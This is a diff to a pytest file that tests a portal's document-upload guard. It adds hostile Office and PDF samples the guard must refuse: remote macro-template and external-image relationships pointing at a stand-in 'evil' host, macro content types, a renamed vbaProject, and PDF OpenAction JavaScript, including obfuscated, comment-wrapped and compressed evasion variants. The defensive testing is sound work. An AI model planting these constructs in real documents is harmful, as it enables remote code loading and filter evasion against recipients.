@@ -1,5 +1,7 @@
 """What may lie in the portal: ending and content agree, nothing runs, nothing is larger than it may be."""
 
+import zlib
+
 import pytest
 
 from roadmap_portal.documents import guard
@@ -9,6 +11,23 @@ from roadmap_portal.documents.spreadsheet_guard import FileRefused
 from . import files
 
 REMOTE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
+# The same to Word: in another order and other quotes, in other letters.
+TURNED = "<Relationship TargetMode='External' Target='http://evil/x.dotm' Type='http://x/attachedTemplate'/>"
+PICTURE = '<Relationship Type="http://x/image" Target="//evil/x.png" TargetMode="External"/>'
+LINK = '<Relationship Type="http://x/hyperlink" Target="https://moi.gov.iq/" TargetMode="External"/>'
+MACRO = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+RENAMED = '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>'
+RUNS = b"/OpenAction << /S /JavaScript /JS (x) >>"
+
+
+def relations(text):
+    return files.office(word___rels__settings_dot_xml_dot_rels=text)
+
+
+def packed_objects(text):
+    return files.PDF.replace(
+        b"trailer", b"2 0 obj\n<</Type/ObjStm/N 1>>\nstream\n" + zlib.compress(text) + b"\nendstream"
+    )
 
 
 @pytest.mark.parametrize(
@@ -19,6 +38,8 @@ REMOTE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.d
         ("a.jpg", files.picture("JPEG"), "jpeg"),
         ("a.docx", files.office(), "docx"),
         ("a.xlsx", files.office("xl/workbook.xml"), "xlsx"),
+        ("a.docx", relations(LINK), "docx"),
+        ("a.pdf", packed_objects(b"/Type /Page"), "pdf"),
         # Letters that mean a script elsewhere, inside a packed stream.
         ("b.pdf", files.PDF.replace(b"trailer", b"stream\n\x00/JS (\nendstream\ntrailer"), "pdf"),
     ],
@@ -46,9 +67,16 @@ def test_files_that_are_what_they_say_pass(name, content, kind):
         ("a.docx", b"PK\x03\x04 no zip", "content"),
         ("a.docx", files.office(word__x_dot_xml="<!DOCTYPE a [<!ENTITY b 'c'>]>"), "content"),
         ("a.docx", files.office(word__vbaProject_dot_bin="x"), "program"),
-        ("a.docx", files.office(types="application/vnd.ms-word.document.macroEnabled.main+xml"), "program"),
-        ("a.docx", files.office(word___rels__settings_dot_xml_dot_rels=REMOTE), "program"),
-        ("a.pdf", files.PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (x) >>"), "program"),
+        ("a.docx", files.office(types=MACRO), "program"),
+        ("a.docx", files.office(types=MACRO.encode("utf-16")), "program"),
+        ("a.docx", files.office(word__x_dot_xml="<!DOCTYPE a><a/>".encode("utf-16")), "content"),
+        ("a.docx", files.office(word__x_dot_xml="no XML"), "content"),
+        *(("a.docx", relations(text), "program") for text in (REMOTE, TURNED, PICTURE, RENAMED)),
+        ("a.docx", relations(REMOTE.encode("utf-16")), "program"),
+        ("a.pdf", files.PDF.replace(b"/Catalog", b"/Catalog " + RUNS), "program"),
+        ("a.pdf", files.PDF.replace(b"/Catalog", b"/Catalog " + RUNS.replace(b"JavaS", b"J#61vaS")), "program"),
+        ("a.pdf", files.PDF.replace(b"endobj", b"%stream\n" + RUNS + b"%endstream\nendobj"), "program"),
+        ("a.pdf", packed_objects(RUNS), "program"),
     ],
 )
 def test_files_that_are_not_or_that_run_something_are_refused(name, content, code):
